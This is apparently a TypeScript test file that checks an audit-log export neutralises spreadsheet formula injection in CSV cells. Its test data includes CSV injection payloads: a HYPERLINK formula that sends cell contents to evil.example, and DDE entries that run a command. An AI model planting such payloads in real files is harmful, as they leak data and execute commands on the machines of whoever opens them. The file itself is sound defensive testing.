import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { AuditLog } from './audit-log.js';
import { csvField, neutralise } from './csv.js';
import { CSV_COLUMNS, exportAudit } from './export.js';
import { MemoryAuditRepository } from './memory-audit-repository.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  'say "hi", then leave',
  'line one\nline two\r\nline three',
  'ünïcödé ✓ 日本語 😀',
  '203.0.113.9;=1+1',
  ',,,',
  '""',
  'plain',
  '',
];

/** HOSTILE as a spreadsheet must get it: a quote before what would run as a formula, the rest as it was. */
const NEUTRALISED = [
  `'${HOSTILE[0]}`, `'${HOSTILE[1]}`, `'-2+3`, `'${HOSTILE[3]}`, `'\t=1+1`, `'\r=1+1`,
  HOSTILE[6], HOSTILE[7], HOSTILE[8], HOSTILE[9], HOSTILE[10], HOSTILE[11], 'plain', '',
];

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

describe('CSV export', () => {
  it('prefixes a quote to a cell that a spreadsheet would run as a formula, and to nothing else', () => {
    expect(HOSTILE.map(neutralise)).toEqual(NEUTRALISED);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    // A spreadsheet splitting on ';' must not start a cell, a formula perhaps, inside the field.
    expect(csvField('x;=HYPERLINK("http://evil.example")')).toBe('"x;=HYPERLINK(""http://evil.example"")"');
  });

  it('round-trips hostile values through a CSV parser: neutralised, nothing else changed', async () => {
    const repository = new MemoryAuditRepository();
    const log = new AuditLog(repository, { includeText: false, logger: { error: () => {} } });
    for (const value of HOSTILE) log.record({ actor: value, actorName: value, action: value, resource: value, ip: value, outcome: 'ok', details: { value } });

    const text = await collect(exportAudit(repository, 'csv', {}));
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parse(text, { bom: false, relax_column_count: false, skip_empty_lines: false }) as string[][];
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const [index, value] of HOSTILE.entries()) {
      const entry = repository.entries[index]!;
      const cell = NEUTRALISED[index];
      expect(rows[index + 1]).toEqual([
        String(entry.id),
        entry.at,
        cell,
        cell,
        cell,
        cell,
        cell,
        'ok',
        JSON.stringify({ value }),
        entry.hash,
      ]);
    }
  });

  it('writes JSON Lines that parse back to the entries', async () => {
    const repository = new MemoryAuditRepository();
    const log = new AuditLog(repository, { includeText: false, logger: { error: () => {} } });
    for (const value of HOSTILE) log.record({ actor: 'system', action: 'x', outcome: 'ok', details: { value } });
    const lines = (await collect(exportAudit(repository, 'jsonl', {}))).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.map((line) => JSON.parse(line))).toEqual(repository.entries);
  });

  it('reads the log a page at a time, and stops at the entries there were when it began', async () => {
    const repository = new MemoryAuditRepository();
    const log = new AuditLog(repository, { includeText: false, logger: { error: () => {} } });
    for (let i = 0; i < 1200; i++) log.record({ actor: 'system', action: 'x', outcome: 'ok' });
    const pages: number[] = [];
    const page = repository.page.bind(repository);
    repository.page = (query) => {
      const found = page(query);
      pages.push(found.length);
      return found;
    };
    let lines = 0;
    for await (const chunk of exportAudit(repository, 'jsonl', {})) {
      lines += chunk.split('\n').length - 1;
      log.record({ actor: 'system', action: 'written during the export', outcome: 'ok' });
    }
    expect(lines).toBe(1200);
    expect(Math.max(...pages)).toBeLessThanOrEqual(500);
  });
});
